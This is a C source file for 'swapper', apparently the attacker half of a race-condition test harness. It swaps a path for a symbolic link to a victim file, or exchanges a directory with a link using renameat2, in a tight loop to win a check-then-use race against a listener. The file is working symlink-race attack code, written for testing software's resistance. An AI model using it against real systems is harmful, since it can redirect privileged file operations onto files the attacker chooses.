/* The attacker of race.py, in one of two modes, over and over, as fast as it
   can, until STOP-FILE exists or SECONDS have passed; it then prints how many
   rounds it made.

   swapper PATH VICTIM STOP-FILE SECONDS
       PATH becomes a symbolic link to VICTIM (atomically, by rename over
       whatever is there, a freshly bound socket included), then disappears
       so that the next bind can succeed.

   swapper -d DIRECTORY TARGET STOP-FILE SECONDS
       DIRECTORY (a directory on the listener's PATH) and a symbolic link to
       the directory TARGET trade places, atomically (renameat2 with
       RENAME_EXCHANGE): DIRECTORY is always there, a real directory one
       moment and a link to TARGET the next. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int stop(unsigned long round, const char* stop_file, time_t deadline) {
    return round % 4096 == 0 && (access(stop_file, F_OK) == 0 || time(NULL) > deadline);
}

int main(int argc, char** argv) {
    int directory_mode = argc == 6 && strcmp(argv[1], "-d") == 0;
    if (argc != 5 && !directory_mode) {
        fputs("usage: swapper [-d] PATH VICTIM STOP-FILE SECONDS\n", stderr);
        return 2;
    }
    char** operand = argv + 1 + directory_mode;
    const char* path = operand[0];
    const char* target = operand[1];
    const char* stop_file = operand[2];
    time_t deadline = time(NULL) + atol(operand[3]);
    char temporary[4096];
    snprintf(temporary, sizeof temporary, "%s.swap", path);
    unsigned long round = 1;
    if (directory_mode) {
        if (symlink(target, temporary) < 0) {
            perror(temporary);
            return 1;
        }
        for (; !stop(round, stop_file, deadline); ++round)
            if (syscall(SYS_renameat2, AT_FDCWD, temporary, AT_FDCWD, path, RENAME_EXCHANGE) < 0) {
                perror("renameat2");
                return 1;
            }
        /* Leave the real directory at PATH. */
        char link[8];
        if (readlink(path, link, sizeof link) >= 0)
            syscall(SYS_renameat2, AT_FDCWD, temporary, AT_FDCWD, path, RENAME_EXCHANGE);
        unlink(temporary);
    } else {
        for (; !stop(round, stop_file, deadline); ++round) {
            symlink(target, temporary);
            rename(temporary, path);
            unlink(path);
        }
    }
    printf("%lu\n", round);
    return 0;
}
